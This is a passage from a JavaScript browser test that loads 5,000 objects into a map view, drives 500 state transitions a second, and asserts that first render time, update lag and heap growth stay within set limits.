  const { usedSize } = await session.send('Runtime.getHeapUsage');
  return usedSize;
}

test('5,000 objects are seen soon, 500 transitions a second are seen as they happen, and memory stays bounded', async () => {
  const source = new Scripted(() => clock.now());
  source.fill(5_000);
  await withPage(async ({ open }) => {
    const beganAt = clock.now();
    const { page } = await open();
    await page.locator('.map canvas').nth(49).waitFor();
    const firstMs = clock.now() - beganAt;
    await picture(page, 'map-5000');
    const before = await memoryOf(page);
    const probe = keyOf('Server', 'team-01', 'servers-0');
    let [slowest, at] = [0, clock.now()];
    for (let second = 0; second < SECONDS; second++) {
      for (let tenth = 0; tenth < 10; tenth++) {
        source.churn(50, () => clock.random());
        at += 100;
        await clock.sleep(Math.max(0, at - clock.now()));
      }
      const tone = second % 2 === 0 ? 'held' : 'available';
      const sentAt = clock.now();
      source.move(probe, second % 2 === 0 ? 'deleting.blocked' : 'idle.available', tone);
      // The group of the probe says how many are held.
      await page.waitForFunction(
        (isHeld) => (document.querySelector('.dt .held') !== null) === isHeld,
        tone === 'held',
      );
      slowest = Math.max(slowest, clock.now() - sentAt);
    }
    const grownMb = ((await memoryOf(page)) - before) / 2 ** 20;
    console.log(
      `5,000 objects: seen after ${Math.round(firstMs)} ms, at most ${Math.round(slowest)} ms behind, ${grownMb.toFixed(1)} MB for ${SECONDS * 500} steps`,
    );
    // What it takes on a machine that has nothing else to do says test/bench/README.md; here it only must not fall behind.
    assert.ok(firstMs < 25_000, `${firstMs} ms`);
    assert.ok(slowest < 25_000, `${slowest} ms`);
    assert.ok(grownMb < 20, `${grownMb} MB`);
  }, source);
});

test.after(() => browser.close());
if (findBrowser() === undefined) console.log(NO_BROWSER);
else test.run();
